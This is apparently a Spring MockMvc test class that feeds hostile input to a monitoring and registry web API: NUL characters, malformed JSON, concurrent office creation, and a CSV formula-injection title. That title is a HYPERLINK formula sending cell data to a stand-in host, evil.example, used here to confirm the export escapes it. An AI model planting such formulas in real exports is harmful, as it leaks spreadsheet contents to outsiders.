package org.sanctuary.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.not;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.sanctuary.Fixtures;
import org.sanctuary.SanctuaryTest;
import org.sanctuary.access.Role;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;

/**
 * Input meant to break things: a NUL character in any text is refused as a field error (the same on
 * H2 and PostgreSQL) and stored nowhere; a title written as a spreadsheet formula leaves in CSV as
 * text; two administrators creating the same office code at the same moment get one 201 and one 409.
 */
@SanctuaryTest
class HostileInputTest {

  @Autowired MockMvc mvc;
  @Autowired Fixtures fixtures;
  @Autowired JdbcClient jdbc;

  private Fixtures.Staffed office;

  @BeforeEach
  void anOffice() {
    office = fixtures.anOfficeWithEveryRole();
  }

  @Test
  void aNulCharacterIsAFieldErrorWhicheverDoorItComesThrough() throws Exception {
    long before = jdbc.sql("SELECT COUNT(*) FROM person").query(Long.class).single();
    mvc.perform(post("/api/persons").with(as(Role.REGISTRAR)).contentType(MediaType.APPLICATION_JSON)
            .content("{\"officeId\":\"" + office.office().id() + "\",\"sex\":\"MALE\",\"names\":[{\"script\":\"HANGUL\","
                + "\"value\":\"김\\u0000철수\"}]}"))
        .andExpect(status().isBadRequest())
        .andExpect(jsonPath("$.errors[0].field").value("names[0].value"));
    mvc.perform(post("/persons").with(as(Role.REGISTRAR)).with(csrf()).param("officeId", office.office().id().toString())
            .param("sex", "MALE").param("nameHANGUL", "김\u0000철수"))
        .andExpect(status().isBadRequest());
    mvc.perform(get("/api/persons").with(as(Role.REGISTRAR)).param("name", "kim\u0000"))
        .andExpect(status().isBadRequest())
        .andExpect(jsonPath("$.errors[0].field").value("name"));
    assertThat(jdbc.sql("SELECT COUNT(*) FROM person").query(Long.class).single()).isEqualTo(before);
  }

  @Test
  void aBodyThatDoesNotBindNamesTheFieldWithItsChoicesAndWritesNothing() throws Exception {
    long before = jdbc.sql("SELECT COUNT(*) FROM source_report").query(Long.class).single();
    String report = "{\"officeId\":\"" + office.office().id() + "\",\"sourceType\":\"%s\",\"receivedOn\":\"%s\","
        + "\"language\":\"ko\",\"content\":\"About 300 returned at Tumen.\",\"confidentiality\":\"OPEN\"}";
    mvc.perform(post("/api/monitoring/reports").with(as(Role.MONITOR)).contentType(MediaType.APPLICATION_JSON)
            .content(report.formatted("NGO", "2002-06-02")))
        .andExpect(status().isBadRequest())
        .andExpect(jsonPath("$.errors[0].field").value("sourceType"))
        .andExpect(jsonPath("$.errors[0].message").value(org.hamcrest.Matchers.startsWith("is one of WITNESS, VICTIM, ")));
    mvc.perform(post("/api/monitoring/reports").with(as(Role.MONITOR)).contentType(MediaType.APPLICATION_JSON)
            .content(report.formatted("WITNESS", "yesterday")))
        .andExpect(status().isBadRequest())
        .andExpect(jsonPath("$.errors[0].field").value("receivedOn"))
        .andExpect(jsonPath("$.errors[0].message").value("has the wrong form"));
    mvc.perform(post("/api/monitoring/reports").with(as(Role.MONITOR)).contentType(MediaType.APPLICATION_JSON)
            .content(report.formatted("WITNESS", "2002-06-02").replace("}", "")))
        .andExpect(status().isBadRequest())
        .andExpect(jsonPath("$.errors[0].field").value("body"));
    assertThat(jdbc.sql("SELECT COUNT(*) FROM source_report").query(Long.class).single()).isEqualTo(before);
  }

  @Test
  void aTitleWrittenAsAFormulaLeavesInCsvAsText() throws Exception {
    String formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"Click\")";
    mvc.perform(post("/api/monitoring/events").with(as(Role.MONITOR)).contentType(MediaType.APPLICATION_JSON)
            .content("{\"officeId\":\"" + office.office().id() + "\",\"title\":\"" + formula.replace("\"", "\\\"")
                + "\",\"date\":\"May 2002\"}"))
        .andExpect(status().isCreated());
    mvc.perform(get("/api/monitoring/export?format=csv").with(as(Role.MONITOR)))
        .andExpect(content().string(containsString("\"'=HYPERLINK(")))
        .andExpect(content().string(not(containsString(",\"=HYPERLINK("))));
  }

  @Test
  void twoAdministratorsCreatingTheSameOfficeAtOnceGetOneCreatedAndOneConflict() throws Exception {
    ExecutorService threads = Executors.newFixedThreadPool(2);
    try {
      for (int round = 0; round < 5; round++) {
        String code = Fixtures.randomCode();
        CyclicBarrier together = new CyclicBarrier(2);
        List<Future<Integer>> answers = new ArrayList<>();
        for (int i = 0; i < 2; i++) {
          answers.add(threads.submit(() -> {
            together.await();
            return mvc.perform(post("/api/offices").with(as(Role.ADMIN)).contentType(MediaType.APPLICATION_JSON)
                    .content("{\"code\":\"" + code + "\",\"name\":\"Raced\",\"type\":\"MONITORING_TEAM\"}"))
                .andReturn().getResponse().getStatus();
          }));
        }
        List<Integer> statuses = new ArrayList<>();
        for (Future<Integer> answer : answers) {
          statuses.add(answer.get());
        }
        assertThat(statuses).as("round " + round).containsExactlyInAnyOrder(201, statuses.contains(409) ? 409 : 400);
      }
    } finally {
      threads.shutdownNow();
    }
  }

  private org.springframework.test.web.servlet.request.RequestPostProcessor as(Role role) {
    return user(fixtures.user(office.username(role)));
  }
}
